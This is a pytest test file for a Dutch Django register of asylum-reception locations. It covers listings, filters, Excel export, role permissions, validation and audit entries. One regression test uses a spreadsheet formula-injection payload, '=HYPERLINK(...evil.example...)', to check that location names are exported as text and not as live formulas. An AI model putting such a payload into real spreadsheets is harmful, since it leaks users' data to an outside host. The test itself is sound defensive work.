"""The location register: list, filters, totals, Excel, detail; create, edit and end with the
role checks (view and service), validation and audit."""

from __future__ import annotations

import datetime as dt
import io

import pytest
from django.core.exceptions import PermissionDenied, ValidationError
from django.test import Client

from regietafel.accounts.models import Gebruiker
from regietafel.audit.models import AuditRegel
from regietafel.gemeenten.models import Gemeente, Provincie
from regietafel.locaties.models import Locatie, LocatieStatus, LocatieType
from regietafel.locaties.services import beeindig_locatie, maak_locatie, wijzig_locatie

pytestmark = pytest.mark.django_db

NIEUW = {
    "naam": "azc Assen-Noord",
    "type": "regulier",
    "status": "gepland",
    "plaatsen_regulier": "300",
    "plaatsen_amv": "0",
    "plaatsen_oekraine": "0",
    "plaatsen_bijzonder": "0",
    "beschikbaar_van": "01-06-2026",
    "beschikbaar_tot": "",
    "bijzonderheden": "",
}


def _g(naam: str) -> Gemeente:
    return Gemeente.objects.get(naam=naam)


def _loc(naam: str) -> Locatie:
    return Locatie.objects.get(naam=naam)


def test_list_shows_bijlage_1_with_totals(lezer: Client) -> None:
    html = lezer.get("/locaties/").content.decode()
    assert "azc Assen" in html and "Noodopvang Tynaarlo" in html
    assert "Totaal (15 locaties)" in html
    assert "4.155" in html  # Bijlage 1: ingevulde plekken
    assert "3.185" in html and "341" in html and "629" in html  # regulier, AMV, overig


def test_filters(lezer: Client) -> None:
    html = lezer.get("/locaties/?gemeente=GM1701&type=noodopvang").content.decode()  # Westerveld
    assert "Noodopvang Westerveld" in html and "azc Westerveld" not in html
    html = lezer.get("/locaties/?status=gepland").content.decode()
    assert "Totaal (3 locaties)" in html and "AMV-locatie De Wolden" in html
    assert lezer.get("/locaties/?gemeente=GM9999").status_code == 404


def test_list_runs_a_constant_number_of_queries(
    lezer: Client, drenthe: Provincie, django_assert_max_num_queries
) -> None:  # type: ignore[no-untyped-def]
    for i in range(40):
        Locatie.objects.create(
            gemeente=_g("Emmen"),
            naam=f"Extra {i}",
            type=LocatieType.TGO,
            status=LocatieStatus.GEPLAND,
        )
    with django_assert_max_num_queries(8):
        response = lezer.get("/locaties/")
    assert "Totaal (55 locaties)" in response.content.decode()
    # session, user, 3 × peildata, gemeenten, locaties, cycli, opgaven (+ savepoints)
    with django_assert_max_num_queries(12):
        assert lezer.get("/locaties/capaciteit/").status_code == 200


def test_excel_of_the_list(lezer: Client) -> None:
    from openpyxl import load_workbook

    response = lezer.get("/locaties/excel/?gemeente=GM1701")
    assert response["Content-Type"].startswith("application/vnd.openxmlformats")
    ws = load_workbook(io.BytesIO(response.content))["Locaties"]
    assert ws["A1"].value == "Locatie" and ws["H1"].value == "Totaal"
    namen = [ws.cell(row=r, column=1).value for r in range(2, 6)]
    assert "azc Westerveld" in namen
    assert ws["H6"].value == "=SUM(H2:H5)"


def test_detail(lezer: Client) -> None:
    html = lezer.get(f"/locaties/{_loc('azc Assen').pk}/").content.decode()
    assert "01-04-2026" in html and "1.000" in html
    assert "Wijzigen" not in html  # a reader has no buttons


# ----------------------------------------------------------------------------- roles


def test_gemeente_is_offered_only_its_own_gemeente(gemeente_assen: Client) -> None:
    html = gemeente_assen.get("/locaties/nieuw/").content.decode()
    assert ">Assen<" in html and ">Emmen<" not in html


def test_gemeente_creates_for_its_own_gemeente(gemeente_assen: Client) -> None:
    response = gemeente_assen.post("/locaties/nieuw/", {**NIEUW, "gemeente": _g("Assen").pk})
    locatie = _loc("azc Assen-Noord")
    assert response.status_code == 302 and response["Location"] == f"/locaties/{locatie.pk}/"
    assert (locatie.gemeente.naam, locatie.plaatsen_regulier, locatie.beschikbaar_van) == (
        "Assen",
        300,
        dt.date(2026, 6, 1),
    )
    regel = AuditRegel.objects.get(object_type="locaties.locatie", object_id=str(locatie.pk))
    assert regel.actie == "aangemaakt" and regel.door.username == "gemeente-assen"


def test_gemeente_cannot_post_for_another_gemeente(gemeente_assen: Client) -> None:
    response = gemeente_assen.post("/locaties/nieuw/", {**NIEUW, "gemeente": _g("Emmen").pk})
    assert response.status_code == 403
    assert not Locatie.objects.filter(naam="azc Assen-Noord").exists()


def test_gemeente_cannot_edit_or_end_another_gemeentes_location(gemeente_emmen: Client) -> None:
    assen = _loc("azc Assen")
    for pad in (f"/locaties/{assen.pk}/wijzigen/", f"/locaties/{assen.pk}/beeindigen/"):
        assert gemeente_emmen.get(pad).status_code == 403
    response = gemeente_emmen.post(
        f"/locaties/{assen.pk}/beeindigen/", {"einddatum": "01-01-2026", "reden": "x"}
    )
    assert response.status_code == 403
    assen.refresh_from_db()
    assert assen.status == LocatieStatus.GEREALISEERD


@pytest.mark.parametrize("persona", ["lezer", "coa"])
def test_readers_and_suppliers_write_nothing(persona: str, request: pytest.FixtureRequest) -> None:
    client: Client = request.getfixturevalue(persona)
    assen = _loc("azc Assen")
    assert client.get("/locaties/nieuw/").status_code == 403
    assert client.post("/locaties/nieuw/", {**NIEUW, "gemeente": _g("Assen").pk}).status_code == 403
    assert client.get(f"/locaties/{assen.pk}/wijzigen/").status_code == 403
    assert client.post(f"/locaties/{assen.pk}/beeindigen/", {}).status_code == 403
    assert client.get("/locaties/").status_code == 200


def test_secretariaat_edits_any_location_of_its_provincie(secretariaat: Client) -> None:
    emmen = _loc("azc Emmen")
    data = {
        "naam": "azc Emmen",
        "type": "regulier",
        "status": "gerealiseerd",
        "plaatsen_regulier": "700",
        "plaatsen_amv": "50",
        "plaatsen_oekraine": "0",
        "plaatsen_bijzonder": "0",
        "beschikbaar_van": "01-05-2000",
        "beschikbaar_tot": "19-10-2031",
        "bijzonderheden": "uitgebreid",
    }
    response = secretariaat.post(f"/locaties/{emmen.pk}/wijzigen/", data)
    assert response.status_code == 302
    emmen.refresh_from_db()
    assert emmen.plaatsen_regulier == 700
    regel = AuditRegel.objects.filter(object_id=str(emmen.pk), actie="gewijzigd").get()
    assert regel.wijzigingen == {
        "plaatsen_regulier": [675, 700],
        "bijzonderheden": ["gezinslocatie voor uitgeprocedeerde asielzoekers", "uitgebreid"],
    }


def test_ending_a_location_with_a_reason(gemeente_assen: Client) -> None:
    assen = _loc("azc Assen")
    response = gemeente_assen.post(
        f"/locaties/{assen.pk}/beeindigen/",
        {"einddatum": "01-02-2026", "reden": "Contract vervroegd beëindigd"},
    )
    assert response.status_code == 302
    assen.refresh_from_db()
    assert (assen.status, assen.beschikbaar_tot, assen.reden_beeindiging) == (
        LocatieStatus.BEEINDIGD,
        dt.date(2026, 2, 1),
        "Contract vervroegd beëindigd",
    )
    regel = AuditRegel.objects.get(object_id=str(assen.pk), actie="beëindigd")
    assert regel.wijzigingen["beschikbaar_tot"] == ["2026-04-01", "2026-02-01"]
    # Ended: no more edits.
    assert gemeente_assen.get(f"/locaties/{assen.pk}/wijzigen/").status_code == 302


def test_ending_needs_a_reason_and_a_date_after_the_start(gemeente_assen: Client) -> None:
    assen = _loc("azc Assen")
    response = gemeente_assen.post(
        f"/locaties/{assen.pk}/beeindigen/", {"einddatum": "01-01-2010", "reden": ""}
    )
    assert response.status_code == 400
    html = response.content.decode()
    assert "Geef de reden van de beëindiging." in html
    response = gemeente_assen.post(
        f"/locaties/{assen.pk}/beeindigen/", {"einddatum": "01-01-2010", "reden": "x"}
    )
    assert "vóór de begindatum (01-03-2017)" in response.content.decode()


def test_validation_in_the_form(secretariaat: Client) -> None:
    response = secretariaat.post(
        "/locaties/nieuw/",
        {
            **NIEUW,
            "gemeente": _g("Assen").pk,
            "naam": "AZC ASSEN",  # same name as "azc Assen", other case
            "plaatsen_amv": "-3",
            "beschikbaar_van": "01-06-2026",
            "beschikbaar_tot": "01-05-2026",
        },
    )
    assert response.status_code == 400
    html = response.content.decode()
    assert "Vul een aantal van 0 of meer in." in html


# ----------------------------------------------------------------------------- services


def test_services_check_the_role_too(drenthe: Provincie) -> None:
    emmen = Gebruiker.objects.get(username="gemeente-emmen")
    lezer = Gebruiker.objects.get(username="lezer")
    with pytest.raises(PermissionDenied):
        maak_locatie(door=emmen, gemeente=_g("Assen"), naam="x", type="tgo", status="gepland")
    with pytest.raises(PermissionDenied):
        wijzig_locatie(door=lezer, locatie=_loc("azc Assen"), plaatsen_regulier=1)
    with pytest.raises(PermissionDenied):
        beeindig_locatie(
            door=emmen, locatie=_loc("azc Assen"), einddatum=dt.date(2026, 1, 1), reden="x"
        )


def test_service_validation(gebruiker_secretariaat: Gebruiker) -> None:
    assen = _g("Assen")
    with pytest.raises(ValidationError) as fout:
        maak_locatie(
            door=gebruiker_secretariaat,
            gemeente=assen,
            naam="Azc Assen",
            type="regulier",
            status="gepland",
            plaatsen_regulier=-1,
            beschikbaar_van=dt.date(2026, 5, 1),
            beschikbaar_tot=dt.date(2026, 4, 1),
        )
    fouten = fout.value.message_dict
    assert "Assen heeft al een locatie met de naam ‘Azc Assen’." in fouten["naam"]
    assert fouten["plaatsen_regulier"] == ["Vul een aantal van 0 of meer in."]
    assert fouten["beschikbaar_tot"] == ["De einddatum ligt vóór de begindatum."]
    # The same name in another gemeente is fine.
    loc = maak_locatie(
        door=gebruiker_secretariaat,
        gemeente=_g("Emmen"),
        naam="azc Assen",
        type="tgo",
        status="gepland",
    )
    assert loc.capaciteit == 0
    assert wijzig_locatie(door=gebruiker_secretariaat, locatie=loc, plaatsen_oekraine=25)
    loc.refresh_from_db()
    assert loc.plaatsen_oekraine == 25 and loc.capaciteit == 25
    assert not wijzig_locatie(door=gebruiker_secretariaat, locatie=loc, plaatsen_oekraine=25)


def test_secretariaat_of_another_provincie_gets_404(drenthe: Provincie) -> None:
    groningen = Provincie.objects.get(naam="Groningen")
    gebruiker = Gebruiker.objects.create_user(
        "secretariaat-groningen", rol="secretariaat", provincie=groningen
    )
    client = Client()
    client.force_login(gebruiker)
    assen = _loc("azc Assen")
    for pad in (
        f"/locaties/{assen.pk}/",
        f"/locaties/{assen.pk}/wijzigen/",
        f"/locaties/{assen.pk}/beeindigen/",
    ):
        assert client.get(pad).status_code == 404
    # Its own form offers only Groningen's gemeenten; a Drenthe gemeente id is refused.
    html = client.get("/locaties/nieuw/").content.decode()
    assert ">Assen<" not in html
    assert client.post("/locaties/nieuw/", {**NIEUW, "gemeente": _g("Assen").pk}).status_code == 403
    with pytest.raises(PermissionDenied):
        wijzig_locatie(door=gebruiker, locatie=assen, plaatsen_regulier=1)


HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A2,"klik")'


def test_a_location_named_as_a_formula_is_text_in_every_excel(gemeente_assen: Client) -> None:
    """Issue 17: the name came back as a live formula in /locaties/excel/."""
    from openpyxl import load_workbook

    response = gemeente_assen.post(
        "/locaties/nieuw/",
        {**NIEUW, "naam": HYPERLINK, "bijzonderheden": "-2+3", "gemeente": _g("Assen").pk},
    )
    assert response.status_code == 302
    for url in ("/locaties/excel/", "/locaties/capaciteit/excel/"):
        antwoord = gemeente_assen.get(url)
        assert antwoord.status_code == 200, url
        cellen = [
            c
            for ws in load_workbook(io.BytesIO(antwoord.content)).worksheets
            for rij in ws.iter_rows()
            for c in rij
        ]
        assert not [c.value for c in cellen if c.data_type == "f" and "evil" in str(c.value)]
        if url == "/locaties/excel/":
            naam = next(c for c in cellen if c.value == HYPERLINK)
            assert naam.data_type == "s" and naam.quotePrefix
